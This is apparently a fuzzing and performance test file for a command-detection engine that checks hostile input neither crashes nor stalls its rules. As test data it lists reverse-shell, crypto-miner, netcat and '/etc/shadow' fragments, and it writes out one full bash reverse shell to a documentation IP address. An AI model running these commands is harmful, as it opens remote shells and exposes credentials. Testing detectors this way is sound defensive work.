"""Hostile text neither breaks nor stalls a detector, nor does it get out of a finding unharmed."""

import json
import time
from collections.abc import Callable

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from apps.detection.engine import inspect
from apps.detection.facts import CommandFact, Fact, ProcessFact, SocketFact
from apps.detection.rules import RULES
from apps.detection.shell import parse
from tests.detection.cases import command, process, through_shell

# Pieces that mean something to the shell or to a rule: random text alone would never reach a rule.
PIECES = [
    *"'\"`$(){}[]<>|&;#\\\n\t =~*?!", "$(", "${", "<<E\n", "<<<", "<(", ">&", "5<>", "/dev/tcp/", "for ",
    "while ", "do ", "done", "case ", "esac", "eval ", "ssh ", "-R", "-o ", "RemoteForward=", "nc ",
    "-e ", "bash ", "-c ", "python3 ", "import socket", "perl ", "awk ", "docker run ", "xmrig ",
    "stratum+tcp://", "-u ", "--algo ", "base64 -d", "| sh", "curl ", "http://", "nmap ", "cat ",
    "/etc/shadow", "echo ", "> ", "crontab ", "find / ", "-exec ", "{1..9}", "\x00", "\ud800", "\u202e",
    "é", "0", ":1", "1.2.3.4",

]  # fmt: skip
# What the rules themselves look for, so that every one of them is reached.
SIGNS = sorted({sign for rule in RULES for sign in (*rule.hints, *rule.programs)})
texts = st.lists(
    st.one_of(st.sampled_from(PIECES), st.sampled_from(SIGNS), st.text(max_size=5)), max_size=40
).map("".join)
arguments = st.lists(st.one_of(st.sampled_from(PIECES), st.text(max_size=20), texts), max_size=12)
examples = st.sampled_from([text for rule in RULES for text in rule.examples if not text.startswith("{")])


def harmless(fact: Fact) -> None:
    """No rule failed, and what was found can be stored."""
    seen = inspect(fact)
    assert not seen.errors
    for finding in seen.findings:
        stored = json.dumps(finding.detail, ensure_ascii=False)
        stored.encode()  # no lone surrogates
        assert "\x00" not in stored
        assert len(stored) < 20_000


@given(texts)
@example("\ud800" * 9)
@example("ssh -R \x00:\ud800:1 h")
def test_no_text_of_a_tool_call_breaks_a_rule(text: str) -> None:
    harmless(command(text))
    harmless(CommandFact(text, tool="run_python"))


@given(examples, texts, st.integers(0, 200))
def test_nothing_put_into_a_true_example_breaks_a_rule(text: str, inserted: str, place: int) -> None:
    harmless(command(text[:place] + inserted + text[place:]))


@given(arguments, st.text(max_size=20))
def test_no_argument_list_breaks_a_rule(argv: list[str], exe: str) -> None:
    harmless(ProcessFact(tuple(argv), exe, exe, exe, "run", marker=exe, run_cgroup="/a", run_ended=bool(exe)))


@given(arguments, st.text(max_size=20), st.lists(st.text(max_size=20), max_size=40))
def test_no_socket_breaks_a_rule(argv: list[str], address: str, targets: list[str]) -> None:
    for state in ("LISTEN", "ESTABLISHED", address):
        harmless(
            SocketFact(
                tuple(argv), address, state, address, address, "run", tuple(targets[:3]), tuple(targets)
            )
        )


@given(arguments)
@settings(max_examples=50)
def test_no_fact_with_a_shell_s_name_breaks_a_rule(argv: list[str]) -> None:
    for name in ("bash", "python3", "ssh", "docker", "awk"):
        harmless(process([name, *argv]))
    harmless(through_shell(" ".join(argv)))


STALLING: dict[str, str] = {
    "calls": "perl -e system('a ", "open calls": "exec('\\",
    "parentheses": "(", "substitutions": "$(", "quoted substitutions": '"$(', "here-documents": "<<a ",
    "braces": "${", "brace lists": "{a,b}", "backticks": "`", "redirections": "5<>",
    "loops": "for x in a; do ", "conditions": "if ", "pipes": "a|", "arithmetic": "((",
    "assignments": "a=$a$a;", "escapes": "\\", "quotes": "'\"", "cases": "case a in ",
    "groups": "(a;b)>x ", "options": "ssh -o a=b -R 1:2:3 ",
    "urls": "curl http://a.pool.a.pool.a:1 -u x ", "dots": "1.1.", "spaces": " ",
    "words": "nc -e sh h 1;", "wallets": "4" * 40, "codes": "python3 -c 'socket connect dup2' ",
    "paths": "/etc/../etc/shadow ", "names": "a-a.", "dashes": "-",

}  # fmt: skip


def cost(work: Callable[[], object]) -> float:
    """Processor time of the faster of two."""
    times = []
    for _ in range(2):
        start = time.process_time()
        work()
        times.append(time.process_time() - start)
    return min(times)


def stays_below(factor: float, work: Callable[[Fact], object], small: Fact, large: Fact) -> bool:
    """Whether the large fact costs less than so many small ones; a busy machine gets a few tries."""
    return any(cost(lambda: work(large)) < factor * cost(lambda: work(small)) + 0.02 for _ in range(4))


@pytest.mark.parametrize("piece", STALLING.values(), ids=STALLING.keys())
def test_twice_the_text_costs_about_twice_the_time(piece: str) -> None:
    """A quadratic step would show as four times, an exponential one would not end."""
    short, long = (command((piece * 16_384)[:size]) for size in (6_000, 12_000))
    assert stays_below(3.3, inspect, short, long)


@pytest.mark.parametrize("piece", STALLING.values(), ids=STALLING.keys())
def test_a_text_of_any_length_costs_no_more_than_its_cap(piece: str) -> None:
    long, longer = (command(piece * (size // len(piece) + 1)) for size in (20_000, 400_000))
    assert stays_below(2.5, inspect, long, longer)


@pytest.mark.parametrize("piece", ["-o ", "stratum", "http://a:1", "a" * 50, "/etc/shadow"])
def test_a_long_argument_list_costs_in_proportion(piece: str) -> None:
    short, long = (process(["python3", "-c", *[piece] * count]) for count in (1_000, 2_000))
    assert stays_below(3.3, inspect, short, long)


def test_padding_in_front_or_behind_hides_nothing() -> None:
    text = "bash -i >& /dev/tcp/203.0.113.9/443 0>&1"
    for padded in ("#" * 1_000_000 + "\n" + text, text + "\n" + ": padding\n" * 100_000):
        assert [finding.rule for finding in inspect(command(padded)).findings] == ["shell-over-dev-tcp"]


def test_the_parser_keeps_to_its_limits() -> None:
    assert len(parse("a;" * 100_000).commands) <= 2_000
    assert parse("$(" * 50 + "a" + ")" * 50).commands
